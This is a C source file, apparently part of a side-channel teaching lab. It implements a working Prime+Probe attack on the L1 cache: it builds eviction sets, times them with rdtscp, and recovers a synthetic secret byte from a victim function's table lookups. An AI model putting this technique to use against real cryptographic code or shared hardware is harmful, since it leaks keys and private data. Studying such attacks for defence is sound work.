/*
 * Prime+Probe: which sets of the L1 cache did the victim use? No memory is shared, nothing is flushed.
 *
 * The victim looks up both halves of a secret byte in tables, as ciphers did: 16 lines in sets 0 to 15, 16 lines in
 * sets 16 to 31. The attacker fills these sets with lines of its own, lets the victim run, and times its own lines:
 * where the victim was, they are gone. There is no transient execution here, so no CPU model is safe from it.
 */
#define LAB_OWN_RECEIVER
#define PROBED 32
#define LEAD 2
#include "lab.h"

static const char ABOUT[] = "nobody: victim() looks up by it and returns nothing";

#define MOST_WAYS 16
/* What the attack itself needs stays in sets 32 to 63; so does its stack, which begins at the end of a page. */
static struct {
    u8 lookup[2][16][LINE];
    u8 secret[MOST];
    u16 idle[PROBED], taken[PROBED];
    u64 ways;
    u8 order[MOST_WAYS];
    u8 *first[PROBED];
} lab __attribute__((aligned(PAGE)));
static u8 lines[MOST_WAYS + 1][PAGE] __attribute__((aligned(PAGE)));

NOINLINE static void victim(u64 index)
{
    u8 byte = lab.secret[index];
    touch(lab.lookup[0][byte >> 4]);
    touch(lab.lookup[1][byte & 15]);
}

static void link_lines(void)
{
    struct cpuid intel = cpuid(4, 0), amd = cpuid(0x80000005, 0);
    lab.ways = (intel.a & 31) == 1 ? (intel.b >> 22) + 1 : amd.c >> 16 & 255;
    if (!lab.ways)
        lab.ways = 8;
    if (lab.ways > MOST_WAYS)
        lab.ways = MOST_WAYS;
    for (u64 way = 0; way < lab.ways; way++)
        lab.order[way] = way;
    for (u64 set = 0; set < PROBED; set++) {
        for (u64 way = lab.ways - 1; way; way--) { /* another order in each set: prefetchers see no stride */
            u64 other = roll() % (way + 1);
            u8 held = lab.order[way];
            lab.order[way] = lab.order[other];
            lab.order[other] = held;
        }
        lab.first[set] = lines[lab.order[0]] + set * LINE;
        for (u64 way = 0; way < lab.ways; way++)
            *(u8 **)(lines[lab.order[way]] + set * LINE) = lines[lab.order[way + 1 == lab.ways ? 0 : way + 1]] + set * LINE;
    }
}

/* Cycles to go along all lines of a set, each found by the one before it. */
static inline u32 walk(u64 set)
{
    u32 cycles;
    u64 at = (u64)lab.first[set], left = lab.ways;
    __asm__ volatile("rdtscp\n\t"
                     "mov %%eax, %%esi\n\t"
                     "lfence\n"
                     "1:\tmov (%1), %1\n\t"
                     "dec %2\n\t"
                     "jnz 1b\n\t"
                     "rdtscp\n\t"
                     "sub %%esi, %%eax"
                     : "=&a"(cycles), "+r"(at), "+r"(left) : : "rcx", "rdx", "rsi", "memory", "cc");
    return cycles;
}

static void prime(void)
{
    for (int again = 0; again < 2; again++)
        for (u64 set = 0; set < PROBED; set++)
            walk(set);
}

static void listen(void)
{
    u16 full[SAMPLES], robbed[SAMPLES];
    link_lines();
    for (u64 i = 0; i < SAMPLES; i++) {
        u64 set = i % PROBED;
        walk(set);
        walk(set);
        full[i] = walk(set);
        touch(lines[lab.ways] + set * LINE);
        robbed[i] = walk(set);
    }
    set_threshold(median(full, SAMPLES), median(robbed, SAMPLES));
}

static int prepare(u64 bytes)
{
    make_secret(lab.secret, bytes);
    for (u64 i = 0; i < sizeof lab.lookup; i += LINE)
        touch((u8 *)lab.lookup + i);
    return threshold != 0;
}

static void attempt(u64 index)
{
    prime();
    for (u64 set = 0; set < PROBED; set++)
        lab.idle[set] = walk(set);
    prime();
    victim(index);
    for (u64 set = 0; set < PROBED; set++)
        lab.taken[set] = walk(set);
}

/* Which of 16 sets became slower by the victim's doing. */
static int slowest(int first)
{
    int found = first, most = 0;
    for (int set = first; set < first + 16; set++) {
        int more = lab.taken[set] - lab.idle[set];
        if (more > most) {
            most = more;
            found = set;
        }
    }
    return lab.taken[found] > threshold ? found - first : -1;
}

static void receive(void)
{
    int high = slowest(0), low = slowest(16);
    for (u64 set = 0; set < PROBED; set++) {
        reloads[set] = lab.taken[set] < 1023 ? lab.taken[set] : 1023;
        histogram[reloads[set]]++;
    }
    if (high >= 0 && low >= 0)
        count_hit(high << 4 | low);
}

static void done(void)
{
}
